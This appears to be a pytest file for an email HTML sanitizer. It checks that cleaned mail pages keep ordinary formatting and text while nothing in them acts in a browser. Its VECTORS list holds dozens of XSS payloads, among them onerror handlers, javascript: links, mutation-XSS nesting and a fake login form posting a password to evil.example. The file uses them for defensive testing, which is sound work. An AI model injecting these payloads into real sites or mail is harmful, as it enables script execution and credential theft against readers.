"""The page of a mail made harmless: what stays of it, and that nothing acts."""

from __future__ import annotations

from html.parser import HTMLParser

import nh3
import pytest
from mail_makers import MISSING, SHARED, page, sets, stored

from garant.kit import mail_html
from garant.kit.mail_html import content_key, harmless_page
from garant.kit.mail_parsing import take_apart

TAGS = {
    "a",
    "abbr",
    "b",
    "blockquote",
    "br",
    "caption",
    "center",
    "code",
    "col",
    "colgroup",
    "dd",
    "del",
    "div",
    "dl",
    "dt",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "ol",
    "p",
    "pre",
    "q",
    "s",
    "samp",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
}
ATTRIBUTES = {
    "align",
    "alt",
    "colspan",
    "data-blocked",
    "dir",
    "height",
    "href",
    "lang",
    "rel",
    "rowspan",
    "src",
    "start",
    "title",
    "valign",
    "width",
}


class Finds(HTMLParser):
    """What stands in a page that a browser would act on. Written apart from the code: its own lists, its own parser."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.words = ""
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag not in TAGS:
            self.wrong.append(tag)
        self.wrong += [f"{tag} {name}" for name in values if name not in ATTRIBUTES]
        if not values.get("src", "cid:").startswith("cid:"):
            self.wrong.append(f"src {values['src']}")
        if "href" in values and not values["href"].lower().startswith(("http://", "https://", "mailto:", "tel:")):
            self.wrong.append(f"href {values['href']}")
        if tag == "a" and values.get("rel") != "noopener noreferrer nofollow":
            self.wrong.append("rel")

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.wrong.append("comment")

    def handle_decl(self, decl: str) -> None:
        self.wrong.append("declaration")

    handle_pi = unknown_decl = handle_decl


def clean(html: str) -> str:
    return harmless_page(html)[0]


VECTORS = [
    "<script>alert(1)</script>hello",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>hello",
    "<scr<script>ipt>alert(1)</scr</script>ipt>hello",
    "<<script>alert(1);//<</script>hello",
    "<img src=x onerror=alert(1)>hello",
    "<img src=javascript:alert(1)>hello",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>hello",
    "<img src=`javascript:alert(1)`>hello",
    '<img """><script>alert(1)</script>">hello',
    '<img src="cid:x" onload="alert(1)">hello',
    '<img srcset="http://evil.example/a 1x">hello',
    '<img src="http://evil.example/a.gif" lowsrc="http://evil.example/b.gif">hello',
    '<img alt="<img src=http://evil.example/x onerror=alert(1)>">hello',
    "<img title='\" onerror=alert(1) x=\"'>hello",
    "<svg onload=alert(1)>hello",
    "<svg><script>alert(1)</script></svg>hello",
    "<svg><style><img src=x onerror=alert(1)></style></svg>hello",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>hello",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>hello",
    "<body onload=alert(1)>hello",
    "<a href='javascript:alert(1)'>hello</a>",
    "<a href=' &#14; javascript:alert(1)'>hello</a>",
    "<a href='jav&#x0A;ascript:alert(1)'>hello</a>",
    "<a href='JaVaScRiPt:alert(1)'>hello</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>hello</a>",
    "<a href='vbscript:msgbox(1)'>hello</a>",
    "<a href='cid:x'>hello</a>",
    "<a href='/console/case/1/close'>hello</a>",
    "<a href='//evil.example/x'>hello</a>",
    "<a href='?page=2' target=_top ping=http://evil.example>hello</a>",
    "<a href='https://ok.example' onclick='alert(1)' style='position:fixed'>hello</a>",
    "<div style='background:url(http://evil.example/x)'>hello</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>hello</div>",
    "<style>@import url(http://evil.example/x.css);</style>hello",
    "<link rel=stylesheet href=http://evil.example/x.css>hello",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>hello",
    "<base href=http://evil.example/>hello",
    "<iframe src=http://evil.example></iframe>hello",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>hello",
    "<object data=http://evil.example/x.swf></object><embed src=http://evil.example/x.swf>hello",
    "<form action=http://evil.example><input name=password><button>Log in</button></form>hello",
    "<input type=image src=http://evil.example/x.gif>hello<isindex action=http://evil.example>",
    "<video src=http://evil.example/x poster=http://evil.example/y></video><audio src=http://e.example/z></audio>hello",
    "<table background=http://evil.example/x.gif><tr><td background=http://evil.example/y.gif>hello</td></tr></table>",
    "<p id=content class=toolbar name=csrf>hello</p>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->hello",
    "<?php echo 1 ?><!DOCTYPE x [<!ENTITY a 'b'>]>hello",
    "<template><img src=x onerror=alert(1)></template>hello",
    "<details open ontoggle=alert(1)>hello</details><marquee onstart=alert(1)></marquee>",
    "<p title=\"--><img src=x onerror=alert(1)>\">hello</p>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>hello",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-hello",
    "<\x00script>alert(1)</script>hello",
    "<a href='https://ok.example/\"><script>alert(1)</script>'>hello</a>",
    "<picture><source srcset=http://evil.example/x><img src=http://evil.example/y></picture>hello",
]  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_of_a_page_acts(vector: str) -> None:
    found = Finds(clean(vector))
    assert found.wrong == []
    assert "hello" in found.words


@pytest.mark.parametrize("vector", VECTORS)
def test_a_clean_page_stays_as_it_is(vector: str) -> None:
    """What a second cleaning changes is read in two ways: by us and by a browser."""
    once = clean(vector)
    attributes = {"*": ATTRIBUTES - {"rel"}}
    again = nh3.clean(once, tags=TAGS, attributes=attributes, url_schemes={"http", "https", "mailto", "tel", "cid"},
                      link_rel="noopener noreferrer nofollow")  # fmt: skip
    assert again == once


def test_the_vectors_find_what_is_left_in() -> None:
    """The negative control: of a page that nobody cleaned, nearly every vector is found."""
    assert sum(bool(Finds(vector).wrong) for vector in VECTORS) > len(VECTORS) * 0.85


def test_what_people_write_stays() -> None:
    html = (
        '<h2>Log</h2><p>It <b>stops</b> at <a href="https://x.example/a?b=1&amp;c=2" '
        'rel="noopener noreferrer nofollow">this page</a>.</p><ul><li>one</li></ul><pre>a  &lt; b\n  c</pre>'
        '<table><tbody><tr><td colspan="2">x</td></tr></tbody></table><blockquote>quote</blockquote>'
    )
    assert clean(html) == html


def test_a_picture_from_elsewhere_is_blocked_and_its_address_kept() -> None:
    found = clean('<img src="https://track.example/1.gif?who=a&amp;b" width="1" height="1" alt="logo">')
    assert found == ('<img width="1" height="1" alt="logo" data-blocked="https://track.example/1.gif?who=a&amp;b">')
    assert "src=" not in clean('<img src="//track.example/x">').replace("data-blocked", "")


def test_a_picture_that_came_along_is_found_by_its_key() -> None:
    html, _ = harmless_page('<img src="cid:a%22b@x"><img src="cid:gone@x">', {content_key('<a"b@x>')})
    assert html == '<img src="cid:a_b@x"><img data-blocked="cid:gone@x">'


def test_the_last_word_on_a_picture_and_a_link_stands_alone() -> None:
    """Whatever the pictures were before: the second cleaning lets none from elsewhere through."""
    assert mail_html._filtered("img", "src", "http://track.example/x") is None
    assert mail_html._filtered("img", "src", "cid:a@x") == "cid:a@x"
    assert mail_html._filtered("a", "href", "javascript:alert(1)") is None


def test_elements_deep_in_each_other_are_no_page() -> None:
    assert harmless_page("<div>" * 500 + "hello" + "</div>" * 500) == ("", "hello")
    html, words = harmless_page("<div>" * 100_000 + "hello" + "</div>" * 100_000)
    assert (html, words) == ("", "hello")
    assert harmless_page("<div>" * 100 + "hello" + "</div>" * 100)[0].count("<div>") == 100


def test_a_long_page_is_no_deep_one() -> None:
    row = "<tr><td><p>a<br>b<li>c</tr>"
    html, words = harmless_page("<table>" + row * 3_000 + "</table>")
    assert (html.count("<tr>"), words.count("- c")) == (3_000, 3_000)


def test_a_page_larger_than_anybody_reads_is_cut() -> None:
    found = take_apart(page("<p>word</p>" * 200_000))
    assert found["left_out"]
    assert len(found["html"]) <= mail_html.LONGEST_SHOWN * 2
    assert len(found["text"]) <= 200_000


WORDS = {
    "<p>one</p><p>two</p>": "one\n\ntwo",
    "<div>one</div><div>two</div>": "one\ntwo",
    "<p class=MsoNormal>one</p><p class=MsoNormal>two</p><p class=MsoNormal>&nbsp;</p><p class=MsoNormal>three</p>":
        "one\ntwo\n\nthree",
    "one<br>two<br><br>three": "one\ntwo\n\nthree",
    "  many \n\t spaces&nbsp; here ": "many spaces here",
    "<ul><li>one<li>two</ul>": "- one\n- two",
    "<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>": "a b\nc",
    "<pre>if x:\n    y</pre>": "if x:\n    y",
    "<blockquote>one<br>two<blockquote>three</blockquote></blockquote>four": "> one\n> two\n>\n> > three\n>\nfour",
    '<a href="https://x.example/a">here</a>': "here <https://x.example/a>",
    '<a href="https://x.example/a">x.example/a</a> <a href="mailto:a@x.example">A</a>': "x.example/a A",
    "<style>p {}</style><title>no</title><script>no</script>yes": "yes",
    "a &lt;b&gt; &amp;amp; &eacute;": "a <b> &amp; é",
    '<img src="x" alt=":-)"> fine': ":-) fine",
}  # fmt: skip


@pytest.mark.parametrize("html", WORDS)
def test_the_words_of_a_page(html: str) -> None:
    assert harmless_page(html)[1] == WORDS[html]


def test_a_quote_of_a_page_is_taken_off_as_one_of_a_text() -> None:
    found = take_apart(page(
        '<div>It works now.</div><div class="gmail_quote">On Sat, Nov 28, 2026 at 9:00 AM Desk &lt;'
        '<a href="mailto:desk@garant.example">desk@garant.example</a>&gt; wrote:<br>'
        '<blockquote>Try this.</blockquote></div>'
    ))  # fmt: skip
    assert found["shown"] == "It works now."
    assert "> Try this." in found["text"]


@pytest.mark.skipif(not SHARED.is_dir(), reason=MISSING)
def test_pages_of_shared_messages_are_harmless() -> None:
    pages = 0
    for name in sets():
        for where, raw in stored(name).items():
            html = take_apart(raw)["html"]
            pages += bool(html)
            assert Finds(html).wrong == [], where
    assert pages > 20
